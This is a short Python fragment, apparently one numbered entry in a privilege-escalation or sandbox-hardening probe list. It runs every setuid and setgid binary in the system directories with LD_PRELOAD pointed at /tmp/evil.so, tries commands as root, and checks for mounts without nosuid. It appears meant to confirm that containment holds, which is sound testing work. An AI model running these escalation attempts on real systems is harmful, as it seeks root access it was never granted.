# what: setuid programs, `LD_PRELOAD` and `LD_LIBRARY_PATH` into them, and `sudo`
# list: 27
# outcome: ok
import glob, stat, subprocess
for path in glob.glob("/usr/bin/*") + glob.glob("/usr/sbin/*") + glob.glob("/usr/lib/*/*"):
    if os.path.isfile(path) and os.stat(path).st_mode & (stat.S_ISUID | stat.S_ISGID):
        environment = {"LD_PRELOAD": "/tmp/evil.so", "LD_LIBRARY_PATH": "/tmp", "PATH": os.environ["PATH"]}
        for arguments in (["-c", "id"], ["--", "id"], ["-u", "root", "id"]):
            attempt(path, lambda: b"uid=0" in subprocess.run([path, *arguments], env=environment, capture_output=True, stdin=subprocess.DEVNULL, timeout=2).stdout)
attempt("su", lambda: [line for line in open("/proc/self/mountinfo") if "nosuid" not in line.split()[5]])
